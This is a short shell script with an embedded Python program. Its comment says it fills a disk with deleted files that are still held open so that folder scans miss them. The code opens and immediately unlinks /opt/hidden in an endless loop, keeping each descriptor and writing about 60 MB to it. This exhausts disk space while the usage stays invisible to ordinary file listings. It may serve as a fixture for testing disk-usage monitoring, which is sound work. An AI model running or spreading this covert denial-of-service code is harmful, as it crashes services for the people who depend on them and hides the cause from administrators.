# Fills the disk with deleted files that are still open: scanning folders does not find them.
exec /usr/bin/python3 - <<'PROGRAM'
import os

block = bytes(1024 * 1024)
files = []
while True:
    file = os.open("/opt/hidden", os.O_WRONLY | os.O_CREAT)
    os.unlink("/opt/hidden")
    files.append(file)
    for _ in range(60):
        os.write(file, block)
PROGRAM
